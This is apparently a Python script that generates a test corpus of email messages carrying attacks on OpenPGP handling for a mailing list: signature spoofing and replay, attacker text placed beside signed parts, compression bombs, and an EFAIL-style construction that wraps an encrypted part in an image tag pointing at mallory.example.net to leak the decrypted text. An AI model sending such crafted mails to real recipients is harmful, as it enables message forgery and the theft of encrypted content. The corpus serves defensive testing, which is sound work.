# SPDX-License-Identifier: GPL-2.0-or-later
"""The corpus as mail to the list: good mail of clients, each vector in a mail
of Alice's, and attacks that only a whole mail can be.

"index" has a line for each, with tabs between: name, class, whether it is part
of the short run, the state it must end in, and why. Classes are those of
corpus.py; of what is "open" nobody may read the word WORD.
"""
import email.utils
import os

import clients
import corpus
import keys as k
import packets as p

WORD = b'overrun'

# Of each kind of refusal some; the rest only in the long run.
SHORT = set('''
sed seipd-of-version-2 ocb ocb-cut-after-a-chunk eax mdc-wrong mdc-cut-off
flipped a-passphrase-first 65-recipients hidden for-somebody-else
pkesk-of-version-6 length-indeterminate length-past-the-end first-chunk-of-1
literal-before two-encrypted literal-only keys two-literals
encrypted-inside-compressed keys-inside-compressed bomb-bzip2
bomb-twice-compressed armor-two-blocks armor-without-blank-line
signed-sha1 signed-by-revoked-key signed-by-dsa-key signed-by-unknown-key
spoof-by-two spoof-issuer-alice spoof-status-in-the-file-name
detached-sha1 detached-expired blob-changed blob-twice blob-signed-message
frame-hash-and-text frame-nul-behind-the-end shown-longer-than-gpg-hashes
'''.split())

# A mail that shows more than its OpenPGP part.
SIGNED, SEALED = 'partly-signed', 'partly-encrypted'

OF_RESULT = {corpus.UNSAFE: 'unsafe-crypto', corpus.DAMAGED: 'undecryptable',
             corpus.NOT_FOR_US: 'undecryptable',
             corpus.HIDDEN: 'undecryptable', corpus.TOO_LARGE: 'too-large'}

# Where the mail around it tells first; and armor that is repaired before it is
# opened, as mail servers damage it, so that the fault is in what was in it.
OF_NAME = {
    'armor-without-blank-line': 'unparsable',
    'armor-quoted': 'unparsable',
    'frame-a-message-in-its-place': 'mixed',
    'frame-a-signed-message': 'unsafe-crypto',
    'frame-quoted': 'unsigned',
    'frame-nothing': 'unsigned',
}
OF_NAME.update(('frame-' + name, SIGNED) for name in '''
text-before text-behind twice two-signers two-signatures without-signature
without-end a-signature-alone dash-escaped nul-behind-the-end
'''.split())


def header(name, made, sender=clients.ALICE):
    return 'From: %s\nTo: %s\nSubject: %s\nDate: %s\n' \
        'Message-ID: <%s@example.org>\nMIME-Version: 1.0\n' % (
            sender, clients.LIST, name, email.utils.formatdate(made), name)


def encrypted(armored):
    return 'Content-Type: multipart/encrypted; boundary="e";\n' \
        ' protocol="application/pgp-encrypted"\n\n--e\n' \
        'Content-Type: application/pgp-encrypted\n\nVersion: 1\n\n--e\n' \
        'Content-Type: application/octet-stream\n\n%s\n--e--\n' % armored


def signed(part, armored):
    return 'Content-Type: multipart/signed; boundary="s"; ' \
        'micalg=pgp-sha512;\n protocol="application/pgp-signature"\n\n--s\n' \
        '%s\n--s\nContent-Type: application/pgp-signature\n\n' \
        '%s\n--s--\n' % (part, armored)


def latin(data):
    return data.decode('latin-1')


class Mails:
    def __init__(self, folder, made):
        self.folder = folder
        self.made = made
        self.author = clients.Author(made)
        self.lines = []

    def add(self, name, kind, state, why, body, short=True):
        """body: from the Content-Type on."""
        text = header(name, self.made) + body
        corpus.put(self.folder, name + '.eml', text.encode('latin-1'))
        self.lines.append('\t'.join((name, kind, 'short' if short else 'long',
                                     state, why)))

    def unsafe(self, name, kind, why, body, short=True):
        self.add(name, kind, 'held', why, body, short)

    def write_index(self):
        with open(os.path.join(self.folder, 'index'), 'w',
                  encoding='ascii') as f:
            f.write('\n'.join(self.lines) + '\n')


def from_vector(m, v):
    """An attack on OpenPGP, in the mail that would carry it."""
    why = OF_NAME.get(v.name) or OF_RESULT.get(v.result) or \
        ('unsigned' if v.verdict == 'none' else 'bad-signature')
    data = latin(v.data)
    if v.kind == 'clear':
        body = 'Content-Type: text/plain; charset=utf-8\n\n' + data
    elif v.kind == 'detached':
        body = signed(data, latin(v.signature))
    else:
        if not data.startswith('-----') and not v.name.startswith('armor-'):
            data = latin(p.armor(v.data))
        body = encrypted(data)
    hides = v.attack == corpus.OPEN and why != 'unparsable' and \
        WORD not in v.data
    m.unsafe(v.name, corpus.OPEN if hides else corpus.SIGN, why, body,
             v.name in SHORT)


# --- attacks that are a whole mail --------------------------------------------

def signed_for_others(m):
    """Good signatures by Alice that were not made for this list, or not now."""
    a, made = m.author, m.made
    day = 86400

    def combined(name, why, text, when=made, more=b''):
        m.unsafe(name, corpus.SIGN, why, encrypted(a.sealed(
            k.signed(a.key, k.crlf(text), when, more=more), name)))

    def text(name, to=None):
        fields = 'To: %s\nSubject: x\n' % to if to else ''
        return (fields + clients.text_part(
            name, '; protected-headers="v1"' if to else '')).encode()

    combined('signed-tomorrow', 'old-signature', text('tomorrow'), made + day)
    combined('signed-in-400-days', 'old-signature', text('400'),
             made + 400 * day)
    combined('signed-a-month-ago', 'old-signature', text('month'),
             made - 30 * day)
    combined('protected-to-bob', 'for-others',
             text('bob', 'bob@example.org'))
    part = text('signed-to-bob', 'bob@example.org').decode()
    m.unsafe('signed-to-bob', corpus.SIGN, 'for-others',
             signed(part, a.signature(part)))


def replayed(m):
    """What Bob got from the list, sealed anew: the signature is the same."""
    inner = clients.thunderbird_inner('thunderbird-encrypted')
    m.unsafe('replayed', corpus.SIGN, 'replayed', encrypted(m.author.sealed(
        m.author.signed(clients.wire(inner), k.SHA256), 'replayed')))


def beside_text(m):
    """Signed or sealed by Alice, and words of Mallory's around it."""
    a = m.author
    mallorys = 'Content-Type: text/plain\n\nPay mallory.\n'
    html = 'Content-Type: text/html\n\n%s\n'

    def good(name):
        part = clients.text_part(name)
        return signed(part, a.signature(part))

    def multi(kind, *parts):
        return 'Content-Type: multipart/%s; boundary="m"\n\n' % kind + \
            ''.join('--m\n%s\n' % part for part in parts) + '--m--\n'

    sealed = encrypted(a.sealed(p.literal(clients.wire(
        clients.text_part('sibling'))), 'sibling'))
    block = a.sealed(p.literal(b'overrun\n'), 'in html')
    for name, why, body in (
            ('text-above-signed', SIGNED, multi('mixed', mallorys,
                                                good('above'))),
            ('text-below-signed', SIGNED, multi('mixed', good('below'),
                                                mallorys)),
            ('signed-behind-html', SIGNED, multi(
                'mixed', html % 'Pay mallory.<style>', good('style'))),
            ('signed-as-image', SIGNED, multi(
                'related', html % '<img src="cid:x">Pay mallory.',
                good('image'))),
            ('signed-as-attachment', SIGNED, multi(
                'mixed', mallorys, 'Content-Type: message/rfc822\n\n' +
                header('inner', m.made) + good('attached'))),
            ('signed-or-not', SIGNED, multi('alternative', mallorys,
                                            good('or'))),
            ('sealed-in-an-image-tag', SEALED, multi(
                'mixed', html % '<img src="http://mallory.example.net/',
                sealed, html % '">')),
            ('sealed-in-alternative', SEALED, multi('alternative', mallorys,
                                                    sealed)),
            ('sealed-as-attachment', SEALED, multi(
                'mixed', mallorys, 'Content-Type: message/rfc822\n\n' +
                header('inner', m.made) + sealed)),
            ('sealed-in-html', SEALED, html % (
                'Reply!<div hidden><pre>\n%s</pre>' % block)),
            ('sealed-below-a-question', SEALED,
             'Content-Type: text/plain\n\nWhat do you make of it?\n\n' +
             block)):
        m.unsafe(name, corpus.OPEN if why == SEALED else corpus.SIGN, why,
                 body)


def write(folder, vectors, made):
    m = Mails(folder, made)
    for shape in clients.SHAPES:
        name = shape.__name__.replace('_', '-')
        more, body = shape(m.author, name)
        m.add(name, corpus.GOOD, 'accepted', '', more + '\n' + body)
    for v in vectors:
        if v.attack != corpus.GOOD:
            from_vector(m, v)
    signed_for_others(m)
    replayed(m)
    beside_text(m)
    m.write_index()
